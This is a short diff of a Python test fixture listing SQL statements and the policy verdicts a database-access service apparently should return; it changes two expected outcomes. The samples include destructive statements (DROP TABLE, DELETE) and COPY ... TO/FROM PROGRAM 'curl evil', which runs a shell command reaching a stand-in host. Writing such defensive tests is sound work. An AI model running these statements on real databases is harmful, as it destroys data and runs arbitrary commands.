@@ -13,7 +13,7 @@ from service import Service
 SQL = {
     "two statements": (
         "CREATE TABLE public.a(id int); DROP TABLE public.users",
-        "uncertain.sql_several_statements",
+        "database.approve_alone",
     ),
     "an anonymous block": ("DO $$ BEGIN DROP TABLE public.users; END $$", "uncertain.sql_runs_code"),
     "a CTE that deletes": (
@@ -23,7 +23,7 @@ SQL = {
     "COPY to a program": ("COPY public.users TO PROGRAM 'curl evil'", "uncertain.sql_copy"),
     "COPY from a program": ("COPY public.users FROM PROGRAM 'curl evil'", "uncertain.sql_copy"),
     "another schema": ("CREATE TABLE secret.invoices (id int)", "policy.default_deny"),
-    "a name without schema": ("CREATE TABLE invoices (id int)", None),
+    "a name without schema": ("DELETE FROM users", "policy.default_deny"),
     "another database's name": ("CREATE TABLE billing.public.invoices (id int)", None),
     "a deletion": ("DELETE FROM public.users", "policy.default_deny"),
     "an insertion": ("INSERT INTO public.users VALUES (1)", "policy.default_deny"),
